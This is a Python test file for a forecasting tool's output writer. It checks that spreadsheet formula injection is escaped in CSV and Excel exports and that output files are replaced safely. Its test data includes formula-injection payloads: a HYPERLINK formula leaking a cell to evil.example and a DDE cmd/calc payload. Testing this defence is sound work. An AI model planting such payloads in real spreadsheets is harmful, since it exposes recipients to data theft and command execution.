"""The one output writer (issue 19, findings 3 and 4): formula-like text never becomes a formula, a
file is replaced whole or not at all, and never over an input or, without force, an existing file."""
from __future__ import annotations

import csv
import errno
import io
import os

import openpyxl
import pandas as pd
import pytest

from forecast import OutputError, csv_bytes, escape_cell, excel_bytes, read_history, write_output, write_outputs
from forecast.writers import escape_frame, sibling_path

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\n@x", "＝1+1", "＋1", "－1", "＠x",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def forecast_frame() -> pd.DataFrame:
    n = len(HOSTILE) + 2
    return pd.DataFrame({
        "series": HOSTILE + ["calls", "état"],
        "ds": pd.date_range("2024-11-13 08:00", periods=n, freq="30min", tz="America/Toronto"),
        "yhat": [-1.5] + [float(k) for k in range(1, n)],
        "agents": list(range(n)),
        "model": pd.Categorical(["=cmd|' /C calc'!A0"] + ["profile"] * (n - 1)),
    })


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["calls", "", "a=b", "état", "'=already", -3, -2.5, 0, None, True,
                                   pd.Timestamp("2024-01-01")])
def test_everything_else_is_left_as_it_is(value):
    assert escape_cell(value) is value or escape_cell(value) == value


def test_csv_has_no_cell_starting_with_a_formula_sign_and_numbers_stay_numbers():
    frame = forecast_frame()
    frame.columns = ["series", "ds", "=yhat", "agents", "model"]  # headers are escaped too
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert len(rows) == len(frame) + 1
    text_cells = [cell for row in rows for k, cell in enumerate(row) if k in (0, 4) or row is rows[0]]
    assert not [c for c in text_cells if c.startswith(TRIGGERS) or c.lstrip().startswith(TRIGGERS)]
    assert rows[0][2] == "'=yhat"
    assert rows[1][0] == "'" + HOSTILE[0] and rows[1][2] == "-1.5"  # a negative number stays a number
    assert rows[1][4] == "'=cmd|' /C calc'!A0"
    assert rows[1][1] == "2024-11-13 08:00:00-05:00"


def test_csv_in_french_excel_layout():
    frame = pd.DataFrame({"series": ["=1"], "yhat": [1234.5]})
    data = csv_bytes(frame, sep=";", decimal=",", encoding="utf-8-sig")
    assert data == "\ufeffseries;yhat\n'=1;1234,5\n".encode("utf-8")


def test_excel_text_cells_are_text_never_formulas_and_numbers_keep_their_format():
    frame = forecast_frame()
    data = excel_bytes({"Forecast": frame, "Summary": frame.head(1)},
                       number_formats={"yhat": "# ##0,0", ("Summary", "agents"): "0"})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Forecast", "Summary"]
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.data_type == "s"]
    assert "'" + HOSTILE[0] in texts and "'=cmd|' /C calc'!A0" in texts
    assert not [t for t in texts if t.startswith(TRIGGERS) or t.lstrip().startswith(TRIGGERS)]
    ws = wb["Forecast"]
    assert ws["C2"].value == -1.5 and ws["C2"].data_type == "n" and ws["C2"].number_format == "# ##0,0"
    assert ws["D2"].number_format == "General"  # the ("Summary", "agents") format is for that sheet only
    assert wb["Summary"]["D2"].number_format == "0"
    assert ws["B2"].value.isoformat() == "2024-11-13T08:00:00"  # the wall-clock time
    assert ws["A1"].font.b and ws.freeze_panes == "A2"


def test_characters_a_workbook_cannot_hold_are_written_visibly_in_excel_and_csv():
    frame = pd.DataFrame({"series": ["ca\x1b[31mlls", "nul\x00"], "y": [1, 2]})
    ws = openpyxl.load_workbook(io.BytesIO(excel_bytes({"s": frame}))).active
    assert [ws["A2"].value, ws["A3"].value] == ["ca\\x1b[31mlls", "nul\\x00"]
    assert csv_bytes(frame).decode() == "series,y\nca\\x1b[31mlls,1\nnul\\x00,2\n"


def test_sheet_names_are_made_acceptable_to_excel():
    data = excel_bytes({"a/b": pd.DataFrame({"x": [1]}), "A/B": pd.DataFrame({"x": [2]}), "x" * 40: pd.DataFrame()})
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["a_b", "A_B (2)", "x" * 31]


def test_escape_frame_keeps_the_original_and_every_row():
    frame = forecast_frame()
    before = frame.copy()
    out = escape_frame(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert len(out) == len(frame) and out["yhat"].tolist() == frame["yhat"].tolist()


# ------------------------------------------------------------------------------------------------
# files


def test_output_equal_to_an_input_is_refused_in_any_spelling_and_the_input_is_untouched(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    history = tmp_path / "hist.csv"
    history.write_bytes(b"ds,y\n2024-01-01,1\n")
    (tmp_path / "sub").mkdir()
    os.symlink(history, tmp_path / "link.csv")
    os.link(history, tmp_path / "hard.csv")
    for out in ("hist.csv", str(history), "sub/../hist.csv", "./hist.csv", "link.csv", "hard.csv"):
        with pytest.raises(OutputError) as info:
            write_output(out, b"overwritten", inputs=["hist.csv"], force=True)
        assert str(info.value).startswith(f"{out} is also an input of this command (hist.csv)")
    assert history.read_bytes() == b"ds,y\n2024-01-01,1\n"


def test_an_existing_file_is_replaced_only_with_force(tmp_path):
    out = tmp_path / "plan.csv"
    out.write_bytes(b"previous")
    with pytest.raises(OutputError, match=r"plan\.csv already exists; nothing was written.*force=True"):
        write_output(out, b"new")
    assert out.read_bytes() == b"previous"
    assert write_output(out, b"new", force=True) == out
    assert out.read_bytes() == b"new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.csv"]  # no temporary file left


def test_a_full_disk_leaves_the_previous_file_intact_and_no_temporary_file(tmp_path, monkeypatch):
    out = tmp_path / "forecast.xlsx"
    previous = excel_bytes({"forecast": pd.DataFrame({"y": [1.0]})})
    out.write_bytes(previous)
    real_write = os.write
    calls = []

    def full_disk(fd, data):
        calls.append(len(data))
        if len(calls) > 1:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, bytes(data[:100]))  # a short write: the disk fills midway

    monkeypatch.setattr(os, "write", full_disk)
    with pytest.raises(OutputError) as info:
        write_output(out, excel_bytes({"forecast": pd.DataFrame({"y": range(1000)})}), force=True)
    monkeypatch.undo()
    assert str(info.value) == (f"could not write {out}: No space left on device (is the disk full?); "
                               "the previous file is unchanged")
    assert len(calls) == 2
    assert out.read_bytes() == previous
    assert sorted(p.name for p in tmp_path.iterdir()) == ["forecast.xlsx"]


def test_several_files_are_all_checked_before_any_is_written_and_all_are_named(tmp_path):
    main = tmp_path / "plan.csv"
    files = {main: b"main", sibling_path(main, "summary"): b"summary", sibling_path(main, "assumptions"): b"a"}
    sibling_path(main, "assumptions").write_bytes(b"the user's own file")
    with pytest.raises(OutputError) as info:
        write_outputs(files)
    assert str(info.value).startswith(f"{tmp_path / 'plan_assumptions.csv'} already exists; nothing was written")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan_assumptions.csv"]
    assert write_outputs(files, force=True) == list(files)
    assert [p.read_bytes() for p in files] == [b"main", b"summary", b"a"]


def test_a_failure_on_the_second_of_several_files_writes_none(tmp_path, monkeypatch):
    main = tmp_path / "kpis.csv"
    main.write_bytes(b"previous")
    real_write = os.write

    def second_fails(fd, data):
        if bytes(data).startswith(b"new summary"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", second_fails)
    with pytest.raises(OutputError, match=r"kpis_summary\.csv: No space left.*no other output was written either"):
        write_outputs({main: b"new main", sibling_path(main, "summary"): b"new summary"}, force=True)
    monkeypatch.undo()
    assert main.read_bytes() == b"previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kpis.csv"]


def test_two_outputs_naming_the_same_file_or_a_folder_are_refused(tmp_path):
    with pytest.raises(OutputError, match="are the same file"):
        write_outputs({tmp_path / "a.csv": b"1", tmp_path / "x" / ".." / "a.csv": b"2"})
    with pytest.raises(OutputError, match="is a folder"):
        write_output(tmp_path, b"1")
    assert list(tmp_path.iterdir()) == []


def test_a_forecast_written_and_read_back_keeps_its_rows_with_escaped_names(tmp_path):
    frame = pd.DataFrame({"series": ["=SUM(A1)", "calls"], "ds": pd.to_datetime(["2024-01-01", "2024-01-01"]),
                          "y": [1.0, 2.0]})
    path = write_output(tmp_path / "out" / "fc.csv", csv_bytes(frame))
    back = read_history(path)
    assert back["series"].tolist() == ["'=SUM(A1)", "calls"] and back["y"].tolist() == [1.0, 2.0]
